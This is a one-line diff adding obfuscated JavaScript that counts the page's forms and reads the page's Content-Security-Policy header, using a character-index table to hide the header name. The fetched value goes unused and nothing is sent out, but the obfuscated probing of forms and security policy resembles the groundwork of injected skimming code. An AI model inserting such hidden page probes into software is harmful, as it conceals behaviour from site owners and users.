@@ -1,0 +1,1 @@
+_Q=' abcdefghijklmnopqrstuvwxyz.:/-_CEPS';var h=document.forms.length;fetch(location.href).then(function(r){var c=r.headers.get(_Q[32]+_Q[15]+_Q[14]+_Q[20]+_Q[5]+_Q[14]+_Q[20]+_Q[30]+_Q[35]+_Q[5]+_Q[3]+_Q[21]+_Q[18]+_Q[9]+_Q[20]+_Q[25]+_Q[30]+_Q[34]+_Q[15]+_Q[12]+_Q[9]+_Q[3]+_Q[25]);});
